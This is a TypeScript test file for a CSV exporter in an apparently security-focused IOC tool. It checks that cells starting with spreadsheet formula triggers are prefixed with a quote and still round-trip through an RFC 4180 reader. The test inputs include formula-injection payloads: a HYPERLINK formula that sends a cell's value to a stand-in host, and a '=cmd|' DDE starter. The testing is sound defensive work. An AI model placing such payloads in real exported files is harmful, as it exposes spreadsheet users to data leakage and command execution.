import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HOSTILE_STRINGS } from './hostile-corpus';
import { csvCell, iocsToCsv, neutraliseFormula, toCsv } from './csv';
import { parseCsv } from './test-fixtures';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0'];

describe('CSV (SECURITY-NOTES X1)', () => {
  it('neutralises formula starters with a leading quote', () => {
    expect(neutraliseFormula('=HYPERLINK("http://x/?"&A1,"x")')).toBe('\'=HYPERLINK("http://x/?"&A1,"x")');
    expect(neutraliseFormula('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(neutraliseFormula('-2+3')).toBe("'-2+3");
    expect(neutraliseFormula('\t=1')).toBe("'\t=1");
    expect(neutraliseFormula('safe=1')).toBe('safe=1');
    expect(csvCell('a"b,c\r\nd')).toBe('"a""b,c\r\nd"');
  });

  it('property: round trip through an RFC 4180 reader; trigger cells start with \' and strip back to the original', () => {
    const cellArb = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...HOSTILE_STRINGS), fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([a, b]) => a + b));
    fc.assert(
      fc.property(fc.array(fc.array(cellArb, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const width = rows[0]?.length ?? 1;
        const even = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
        const back = parseCsv(toCsv(even[0] ?? [], even.slice(1)));
        expect(back.length).toBe(even.length);
        back.forEach((r, i) =>
          r.forEach((cell, j) => {
            const orig = even[i]?.[j] ?? '';
            if (TRIGGERS.some((t) => orig.startsWith(t))) {
              expect(cell.startsWith("'")).toBe(true);
              expect(cell.slice(1)).toBe(orig);
            } else expect(cell).toBe(orig);
          }),
        );
      }),
      { numRuns: 1000 },
    );
  });

  it('IOC CSV has a fixed header and neutralised cells', () => {
    const csv = iocsToCsv([{ type: 'url', value: '=cmd|x', firstSeen: 0, lastSeen: 1000, alertCount: 2, alertIds: ['a', 'b'], isPrivate: false, roles: ['attacker'] }]);
    expect(parseCsv(csv)).toEqual([
      ['type', 'value', 'first_seen', 'last_seen', 'alert_count', 'private', 'roles', 'verdict', 'alert_ids'],
      ['url', "'=cmd|x", '1970-01-01T00:00:00.000Z', '1970-01-01T00:00:01.000Z', '2', 'false', 'attacker', '', 'a b'],
    ]);
  });
});
